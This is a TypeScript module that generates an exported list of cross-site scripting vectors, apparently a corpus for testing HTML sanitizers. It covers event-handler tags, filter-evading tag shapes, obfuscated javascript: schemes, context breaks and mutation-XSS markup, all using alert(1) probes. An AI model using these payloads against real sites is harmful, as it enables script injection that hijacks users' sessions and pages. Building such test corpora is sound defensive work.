/** Code that an attack wants to run; each calls alert, so that a browser can tell that one ran. */
const PAYLOADS = [
  'alert(1)',
  'alert`1`',
  'top[`al`+`ert`](1)',
  'eval(atob("YWxlcnQoMSk="))',
] as const;

/** Elements that run code by an event of their own, and the attributes that they need for it. */
const ELEMENTS = [
  ['img', 'src=x', 'onerror'],
  ['img', 'src=/', 'onload'],
  ['svg', '', 'onload'],
  ['body', '', 'onload'],
  ['body', '', 'onpageshow'],
  ['iframe', 'src=about:blank', 'onload'],
  ['video', '', 'oncanplay'],
  ['video', 'src=x', 'onerror'],
  ['audio', 'src=x', 'onerror'],
  ['input', 'autofocus', 'onfocus'],
  ['select', 'autofocus', 'onfocus'],
  ['textarea', 'autofocus', 'onfocus'],
  ['details', 'open', 'ontoggle'],
  ['marquee', '', 'onstart'],
  ['object', 'data=x', 'onerror'],
  ['embed', 'src=x', 'onload'],
  ['style', '', 'onload'],
  ['link', 'rel=stylesheet href=x', 'onerror'],
  ['script', 'src=x', 'onerror'],
  ['form', '', 'onsubmit'],
  ['button', 'popovertarget=x', 'onbeforetoggle'],
  ['a', 'href=#', 'onmouseover'],
  ['div', 'style=animation-name:x', 'onanimationstart'],
  ['div', 'contenteditable tabindex=1 autofocus', 'onfocusin'],
  ['xss', 'tabindex=1 autofocus', 'onfocus'],
  ['svg><animate', 'attributeName=x dur=1s', 'onbegin'],
  ['svg><set', 'attributeName=x', 'onend'],
  ['math><mtext', '', 'onclick'],
] as const;

/** Ways of writing a tag that filters have let pass. */
const SHAPES: readonly ((name: string, needs: string, event: string, code: string) => string)[] = [
  (name, needs, event, code) => `<${name} ${needs} ${event}=${code}>`,
  (name, needs, event, code) => `<${name}/${needs}/${event}='${code}'>`,
  (name, needs, event, code) =>
    `<${name.toUpperCase()} ${needs} ${event.toUpperCase()}="${code}"//`,
  (name, needs, event, code) => `"><${name}\n${needs}\t${event}\u000c=${code}>`,
];

const SCHEMES = [
  'javascript:',
  'JaVaScRiPt:',
  'java\tscript:',
  'java\nscript:',
  '\u0001javascript:',
  ' javascript:',
  'javascript\u0000:',
  'javascript&colon;',
  '&#106;avascript:',
  'vbscript:',
  'livescript:',
  'view-source:javascript:',
  'feed:javascript:',
  'blob:javascript:',
  'jar:javascript:',
  'data:text/html,<script>',
  'data:text/html;base64,PHNjcmlwdD4=',
  'data:image/svg+xml,<svg onload=',
  '//evil.test/',
  '/\\evil.test/',
  '\\\\evil.test\\',
  '/.//evil.test/',
  'https:evil.test/',
  'https://user:pass@evil.test/',
  'filesystem:https://evil.test/',
  'intent://evil.test#',
] as const;
const AFTER_SCHEME = [
  'alert(1)',
  '%61lert(1)',
  '//%0aalert(1)',
  '/*--></title>*/alert(1)',
] as const;

/** Ends of a place from which what follows would be read as something else. */
const BREAKS = [
  '">',
  "'>",
  '`>',
  '-->',
  ']]>',
  '</title>',
  '</textarea>',
  '</style>',
  '</script>',
  '</noscript>',
  '</template>',
  '</xmp>',
  '</p></div></main>',
  '" autofocus onfocus=alert(1) x="',
  "' onmouseover=alert(1) x='",
] as const;
const AFTER_BREAK = ['<script>alert(1)</script>', '<img src=x onerror=alert(1)>'] as const;

/** Markup that changes itself while a browser reads it. */
const MUTATIONS = [
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<svg><script href="data:text/javascript,alert(1)" />',
  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><image href=1 onerror=alert(1)></svg>#x">',
  '<svg><a><animate attributeName=href values=javascript:alert(1) /><text x=20 y=20>x</text></a>',
  '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></foreignObject></svg>',
  '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;">',
  '<base href="javascript:/a/-alert(1)///">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<link rel=import href="data:text/html,<script>alert(1)</script>">',
  '<object data="javascript:alert(1)">',
  '<embed src="javascript:alert(1)">',
  '<isindex type=image src=1 onerror=alert(1)>',
  '<table background="javascript:alert(1)">',
  '<div style="background:url(javascript:alert(1))">',
  '<div style="width:expression(alert(1))">',
  '<style>@import "javascript:alert(1)";</style>',
  '<template><script>alert(1)</script></template>',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
  '<?xml-stylesheet href="javascript:alert(1)"?>',
  '<!ENTITY x SYSTEM "javascript:alert(1)">',
  '%3Cscript%3Ealert(1)%3C/script%3E',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
  '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
  '\u00bcscript\u00bealert(1)\u00bc/script\u00be',
  '\uff1cscript\uff1ealert(1)\uff1c/script\uff1e',
  '<scr\u0000ipt>alert(1)</scr\u0000ipt>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<<script>alert(1)//<</script>',
  '<script x>alert(1)</script 1=2',
  '<script>alert(1)<!--',
  '{{constructor.constructor("alert(1)")()}}',
  '$\u007balert(1)}',
  '<%= alert(1) %>',
  '#{alert(1)}',
  '__proto__',
  'constructor',
] as const;

/** Attacks by script, by their families. */
export const VECTORS: readonly string[] = [
  ...ELEMENTS.flatMap(([name, needs, event]) =>
    PAYLOADS.flatMap((code) => SHAPES.map((shape) => shape(name, needs, event, code))),
  ),
  ...SCHEMES.flatMap((scheme) => AFTER_SCHEME.map((code) => `${scheme}${code}`)),
  ...BREAKS.flatMap((end) => AFTER_BREAK.map((code) => `${end}${code}`)),
  ...MUTATIONS,
];
